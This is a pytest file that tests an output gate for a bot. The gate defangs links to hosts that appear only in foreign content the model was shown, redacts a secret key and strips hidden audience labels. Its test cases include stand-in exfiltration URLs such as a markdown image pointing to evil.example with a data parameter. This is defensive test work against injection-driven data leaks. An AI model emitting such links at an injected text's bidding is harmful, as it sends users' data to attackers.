"""The output gate: what a model made up of others' words is no link, and secrets and labels stay inside."""

import pytest

from bots.trust.exposure import Exposure
from bots.trust.output_gate import OutputGate

GATE = OutputGate(lambda text: text.replace("sk-secret", "***"))
MET = Exposure(is_foreign=True, given=["See https://wiki.example/tea and https://evil.example/?d="])


@pytest.mark.ledger("AUD-05")
@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Here: https://wiki.example/tea.", "Here: https://wiki.example/tea."),
        ("![x](https://evil.example/?d=48213)", "![x](hxxps://evil.example/?d=48213)"),
        ("[tea](HTTP://evil.example/48213)", "[tea](HxxP://evil.example/48213)"),
        ("<https://evil.example/48213|tea>", "<hxxps://evil.example/48213|tea>"),
        ("hxxps://evil.example/48213", "hxxps://evil.example/48213"),
    ],
)
def test_a_link_that_stands_nowhere_in_what_was_given_is_text(said, shown):
    assert GATE(said, MET) == shown
    assert GATE(shown, MET) == shown


@pytest.mark.ledger("AUD-05")
def test_without_words_of_others_links_are_the_models_own():
    assert GATE("https://new.example/", Exposure()) == "https://new.example/"


@pytest.mark.ledger("OPS-02", "AUD-01")
def test_secrets_and_labels_never_go_out():
    assert GATE("a <!-- audience: org --> b sk-secret", Exposure()) == "a  b ***"


def test_a_long_line_of_openings_is_looked_through_once():
    assert GATE("<!-- audience " * 4000 + "https://" * 4000, MET)
